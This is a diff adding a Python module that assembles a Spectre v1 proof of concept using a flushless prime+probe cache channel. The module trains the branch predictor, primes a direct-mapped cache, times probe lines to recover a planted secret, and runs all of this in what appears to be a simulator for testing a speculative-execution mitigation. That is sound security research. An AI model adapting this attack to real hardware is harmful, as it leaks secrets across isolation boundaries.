@@ -1,0 +1,205 @@
+"""Spectre v1 through a prime+probe channel (no ``cflush`` required).
+
+The paper's RISC-V PoC relies on an explicit line flush.  This variant
+shows the leak survives even without any cache-maintenance instruction,
+using the classic prime+probe recipe on a direct-mapped cache:
+
+1. **prime** — the attacker walks its own 16 KiB array, filling every
+   cache set with its own lines;
+2. the victim's *speculative* load touches ``array_val[secret * 64]``;
+   with both arrays 16 KiB-aligned and a direct-mapped cache, that
+   evicts exactly the attacker's line in set ``secret``;
+3. **probe** — the attacker re-times each of its lines; the one slow
+   (miss) set names the secret byte.
+
+Sets 0..7 are reserved for the victim's own scalars/buffer (known,
+constant noise), so secret bytes must be >= 8 — printable ASCII is fine.
+
+Mitigations are channel-agnostic: GhostBusters pins the flagged load, so
+*neither* flush+reload nor prime+probe sees anything.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from ..isa.assembler import assemble
+from ..isa.program import Program
+from ..mem.cache import CacheConfig
+from ..vliw.config import VliwConfig
+from .sidechannel import DEFAULT_THRESHOLD, LINE_SIZE, PROBE_ENTRIES, write_and_exit
+
+#: Sets reserved for the victim's own data (see module docstring).
+RESERVED_SETS = 8
+
+DEFAULT_SECRET = b"GHOSTBUSTERS!"
+
+
+def direct_mapped_config() -> VliwConfig:
+    """The machine this attack targets: 16 KiB direct-mapped D-cache,
+    one set per possible secret-byte value."""
+    return VliwConfig(cache=CacheConfig(
+        size_bytes=PROBE_ENTRIES * LINE_SIZE,  # 16 KiB
+        line_size=LINE_SIZE,
+        associativity=1,
+    ))
+
+
+@dataclass(frozen=True)
+class PrimeProbeConfig:
+    """Attack parameters."""
+
+    secret: bytes = DEFAULT_SECRET
+    train_calls: int = 48
+    threshold: int = DEFAULT_THRESHOLD
+
+    def __post_init__(self) -> None:
+        if not self.secret:
+            raise ValueError("secret must be non-empty")
+        if any(byte < RESERVED_SETS for byte in self.secret):
+            raise ValueError(
+                "secret bytes must be >= %d (reserved cache sets)" % RESERVED_SETS
+            )
+
+
+_SOURCE_TEMPLATE = """
+# ---- Spectre v1 via prime+probe (flushless variant)
+.equ SECRET_LEN, {secret_len}
+.equ TRAIN_CALLS, {train_calls}
+.equ ENTRIES, {entries}
+.equ LINE, {line}
+.equ THRESHOLD, {threshold}
+.equ MIN_SET, {reserved}
+
+_start:
+    li s0, 0
+train_loop:
+    andi a0, s0, 7
+    call victim
+    addi s0, s0, 1
+    li t0, TRAIN_CALLS
+    blt s0, t0, train_loop
+
+    li s6, 0
+round_loop:
+    # --- prime: walk the attacker's array, owning every set.
+    la t0, probe_arr
+    li t1, ENTRIES
+prime_loop:
+    lbu t2, 0(t0)
+    addi t0, t0, LINE
+    addi t1, t1, -1
+    bnez t1, prime_loop
+
+    # --- victim call with the malicious index.
+    la a0, secret
+    add a0, a0, s6
+    la t0, buffer
+    sub a0, a0, t0
+    call victim
+
+    # --- probe: the *slowest* set (above threshold) was evicted by the
+    # victim's speculative access.  Sets below MIN_SET are the victim's
+    # own data; skip them.
+    li s1, MIN_SET
+    li s2, 0
+    li s3, 0
+probe_loop:
+    la t0, probe_arr
+    slli t1, s1, 6
+    add t0, t0, t1
+    rdcycle t2
+    lbu t3, 0(t0)
+    add t4, t3, zero
+    rdcycle t5
+    sub t5, t5, t2
+    ble t5, s3, probe_next
+    mv s3, t5
+    mv s2, s1
+probe_next:
+    addi s1, s1, 1
+    li t0, ENTRIES
+    blt s1, t0, probe_loop
+    li t0, THRESHOLD
+    bge s3, t0, have_hit
+    li s2, 0
+have_hit:
+    la t0, recovered
+    add t0, t0, s6
+    sb s2, 0(t0)
+    addi s6, s6, 1
+    li t0, SECRET_LEN
+    blt s6, t0, round_loop
+{epilogue}
+
+# ---- Same victim as the flush+reload v1 PoC.
+victim:
+    la t0, size_ptr
+    ld t0, 0(t0)
+    ld t0, 0(t0)
+    ld t0, 0(t0)
+    bgeu a0, t0, victim_done
+    la t1, buffer
+    add t1, t1, a0
+    lbu t2, 0(t1)
+    slli t2, t2, 6
+    la t3, array_val
+    add t3, t3, t2
+    lbu t4, 0(t3)
+victim_done:
+    ret
+
+.data
+# Victim scalars live in the first reserved sets.
+size_ptr:
+    .dword size_cell_a
+size_cell_a:
+    .dword size_cell_b
+size_cell_b:
+    .dword 16
+.align 6
+buffer:
+    .space 16
+secret:
+{secret_bytes}
+# Both large arrays are cache-sized and cache-aligned: line k of either
+# maps to set k of the direct-mapped cache.
+.align 14
+array_val:
+    .space {array_bytes}
+.align 14
+probe_arr:
+    .space {array_bytes}
+recovered:
+    .space {recovered_space}
+"""
+
+
+def build_program(config: PrimeProbeConfig = PrimeProbeConfig()) -> Program:
+    """Assemble the prime+probe PoC."""
+    secret_bytes = "\n".join("    .byte %d" % value for value in config.secret)
+    source = _SOURCE_TEMPLATE.format(
+        secret_len=len(config.secret),
+        train_calls=config.train_calls,
+        entries=PROBE_ENTRIES,
+        line=LINE_SIZE,
+        threshold=config.threshold,
+        reserved=RESERVED_SETS,
+        epilogue=write_and_exit(),
+        secret_bytes=secret_bytes,
+        array_bytes=PROBE_ENTRIES * LINE_SIZE,
+        recovered_space=max(8, len(config.secret)),
+    )
+    return assemble(source)
+
+
+def run_primeprobe(policy, secret: bytes = DEFAULT_SECRET):
+    """Run the prime+probe attack under ``policy``; returns (recovered,
+    run result)."""
+    from ..platform.system import DbtSystem
+
+    program = build_program(PrimeProbeConfig(secret=secret))
+    system = DbtSystem(program, policy=policy,
+                       vliw_config=direct_mapped_config())
+    result = system.run()
+    return result.output[:len(secret)], result
